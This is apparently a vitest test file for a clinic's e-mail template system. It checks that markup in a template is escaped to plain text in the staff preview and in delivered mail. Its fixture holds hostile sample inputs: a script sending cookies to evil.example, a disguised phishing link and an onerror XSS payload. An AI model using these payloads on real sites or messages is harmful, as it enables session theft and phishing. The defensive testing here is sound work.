// A clinic's template is text: markup typed into it (a `<script>`, a `<b>`, a disguised link) reaches the
// patient's e-mail as visible text, never as HTML, both in the preview staff see and in the mail that arrives.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emailChannel } from '../../integrations/channels/email/email-channel.ts';
import { buildMergeContext, renderTemplate } from '../../templates/index.ts';
import { SmtpStandIn } from '../stand-ins/smtp/smtp-stand-in.ts';
import { loginAgent, startTestPlatform, type TestPlatform } from '../support/testPlatform.ts';

const BODY = [
  '<script>document.location="https://evil.example/?c="+document.cookie</script>Hola <b>{{patient.firstName}}</b>:',
  '',
  'Confirme su cita en <a href="https://evil.example/login">nuestra web</a>.',
  '<img src=x onerror=alert(1)>',
].join('\n');

let platform: TestPlatform;
let smtp: SmtpStandIn;
beforeAll(async () => {
  smtp = await SmtpStandIn.start({ recepcion: 'smtp-pass-1' });
  platform = await startTestPlatform({ WORKER: '0' });
});
afterAll(async () => {
  await platform.close();
  await smtp.close();
});

describe("markup in a template's own text", () => {
  it('when an admin saves an e-mail template with markup, then its preview shows the markup as text', async () => {
    const admin = await loginAgent(platform);
    await admin.put('/api/templates/reminder/email/es').send({ subject: 'Su cita', body: BODY }).expect(200);
    const preview = (await admin.post('/api/templates/preview').send({ event: 'reminder', channel: 'email', locale: 'es' }).expect(200)).body;
    expectOnlyText(preview.html);
    expect(preview.html).toContain('&lt;script&gt;document.location&#x3D;&quot;');
  });

  it('when such a template is rendered and sent through the e-mail channel, then the HTML part that arrives has no markup from it', async () => {
    const rendered = renderTemplate(BODY, buildMergeContext({ clinic: { timezone: 'Europe/Madrid', name: 'Clínica Sol' }, patient: { firstName: 'María <i>' } }), { channel: 'email', locale: 'es' });
    const channel = emailChannel.create(emailChannel.configSchema.parse({ host: smtp.host, port: smtp.port, user: 'recepcion', password: 'smtp-pass-1', from: 'citas@clinicasol.es' }), { channelId: 'ch-email', publicUrl: platform.url });
    await channel.send({ messageId: 'm-markup', kind: 'email', to: 'maria@example.com', subject: 'Su cita', text: rendered.text, ...(rendered.html ? { html: rendered.html } : {}) });

    const html = String(smtp.mails.at(-1)?.parsed.html);
    expectOnlyText(html);
    expect(html).toContain('Hola &lt;b&gt;María &lt;i&gt;&lt;/b&gt;:');
    // The text part is what the clinic typed, as typed.
    expect(smtp.mails.at(-1)?.parsed.text).toContain('<b>María <i></b>');
  });
});

/** No element but the ones the renderer adds (div, p, br, and links that show their own address). */
function expectOnlyText(html: string): void {
  const tags = [...html.matchAll(/<\/?([a-z]+)/gi)].map(([, tag]) => tag?.toLowerCase());
  expect(new Set(tags)).toEqual(new Set(['div', 'p', 'br', 'a']));
  for (const [, href, shown] of html.matchAll(/<a href="([^"]*)">([^<]*)<\/a>/g)) expect(shown).toBe(href);
}
